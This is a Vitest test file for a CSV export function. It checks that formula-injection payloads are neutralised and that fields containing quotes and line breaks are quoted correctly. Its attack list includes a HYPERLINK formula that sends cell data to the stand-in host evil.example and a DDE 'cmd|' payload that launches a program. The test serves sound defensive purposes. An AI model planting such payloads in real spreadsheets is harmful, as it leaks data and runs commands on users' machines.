import { describe, expect, it } from "vitest";
import { toCsv } from "./csv.ts";

describe("CSV", () => {
  it("gives a spreadsheet nothing to execute", () => {
    const attacks = [
      '=HYPERLINK("http://evil.example?"&A1,"x")',
      "+1+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1)",
      "\t=1+1",
      "\r=1+1",
      "  =1+1",
      "|calc",
      "%0A=1",
      "\uff1d1+1",
    ];
    const lines = toCsv(
      ["name"],
      attacks.map((attack) => [attack]),
    )
      .split("\r\n")
      .slice(1, -1);
    for (const line of lines) expect(line).toMatch(/^"?'/);
  });

  it("quotes what would break a row, and leaves numbers numbers", () => {
    expect(
      toCsv(
        ["a", "b"],
        [
          ['x "y", z', 1.5],
          ["line\nbreak", 0],
        ],
      ),
    ).toBe('a,b\r\n"x ""y"", z",1.5\r\n"line\nbreak",0\r\n');
  });
});
